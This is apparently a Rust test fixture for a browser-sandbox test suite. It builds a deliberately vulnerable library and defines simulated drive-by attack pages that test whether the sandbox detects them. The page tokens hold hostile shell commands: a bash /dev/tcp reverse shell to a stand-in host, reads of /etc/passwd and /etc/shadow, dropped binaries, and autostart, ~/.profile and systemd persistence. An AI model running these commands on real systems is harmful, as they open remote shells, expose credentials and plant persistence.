//! Drive-by attacks, simulated: a browser with a hole (`vulnerable.c`, preloaded) does what tokens in a page say.

use super::http::Answer;
use super::{Site, site};
use fvm_webtest::model::Kind;
use std::path::{Path, PathBuf};

/// Builds the hole, or says why not.
pub fn hole(dir: &Path) -> Result<PathBuf, String> {
    let source = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/lab/vulnerable.c");
    let library = dir.join("hole.so");
    let built = std::process::Command::new("cc")
        .args(["-shared", "-fPIC", "-O1", "-w", "-o"])
        .arg(&library)
        .arg(source)
        .output();
    match built {
        Err(e) => Err(format!("there is no 'cc' to build the hole with: {e}")),
        Ok(built) if !built.status.success() => panic!("{}", String::from_utf8_lossy(&built.stderr)),
        Ok(_) => Ok(library),
    }
}

fn attack(host: &str, rule: &'static str, token: &str) -> Site {
    site(host, Kind::Malicious).rule(rule).page(format!("<!DOCTYPE html><p>Win a prize<!-- FVM-LAB-{token};; -->"))
}

/// All of them.
pub fn sites() -> Vec<Site> {
    vec![
        attack("drops-and-runs", "foreign-program", "RUN:cp /bin/true /tmp/.x; /tmp/.x").check(|seen| {
            seen.ran.iter().any(|ran| ran.exe == "/tmp/.x") && seen.wrote.iter().any(|w| w.path == "/tmp/.x")
        }),
        attack("runs", "foreign-program", "RUN:id >/dev/null"),
        attack("reads-secrets", "foreign-program", "RUN:cat /etc/passwd /etc/shadow"),
        attack("goes-behind", "foreign-program", "RUN:(setsid sleep 30 &)")
            .check(|seen| seen.ran.iter().any(|ran| ran.command == "sleep 30")),
        attack(
            "autostart",
            "persistence",
            "RUN:mkdir -p ~/.config/autostart; echo '[Desktop Entry]' > ~/.config/autostart/x.desktop",
        ),
        attack("shell-startup", "persistence", "RUN:echo 'x &' >> ~/.profile"),
        attack(
            "user-unit",
            "persistence",
            "RUN:mkdir -p ~/.config/systemd/user; echo '[Service]' > ~/.config/systemd/user/x.service",
        ),
        attack("no-program", "foreign-program", "MEMORY:"),
        attack("another-browser", "foreign-program", "RUN:/usr/lib/chromium/chromium-headless-shell --version"),
        attack("writes", "wrote-outside", "WRITE:/tmp/fvm-visit/written").check(|seen| seen.ran.is_empty()),
        attack("writes-beside", "wrote-outside", "WRITE:/var/tmp/written"),
        attack("listens", "listener", "LISTEN:4444").check(|seen| seen.ran.is_empty()),
        attack("calls-home", "foreign-connection", "CONNECT:203.0.113.7:4444")
            .check(|seen| seen.foreign.iter().any(|f| f.to == "203.0.113.7:4444")),
        attack("reverse-shell", "foreign-connection", "RUN:bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444; sh <&3 >&3'"),
        attack("runs-and-crashes", "foreign-program", "RUN:true;; FVM-LAB-ABORT:").how("browser-crashed"),
        site("installs-download", Kind::Malicious).rule("persistence").answers(|asked| match asked.path.as_str() {
            "/" => Answer::html("<iframe src=/get></iframe><script>setTimeout(() => fetch('/open'), 500)</script>"),
            "/get" => Answer::file("x.desktop", "[Desktop Entry]\nType=Application\nExec=/bin/true\n"),
            _ => Answer::of(
                "text/plain",
                "FVM-LAB-RUN:sleep 0.3; mkdir -p ~/.config/autostart; cp ~/downloads/* ~/.config/autostart/x.desktop;;",
            ),
        }),
        // The hole is there, and nobody uses it.
        site("harmless", Kind::Clean).how("done").page("<p>FVM-LAB-RUN without an end, FVM-LAB-: nor a beginning"),
    ]
}
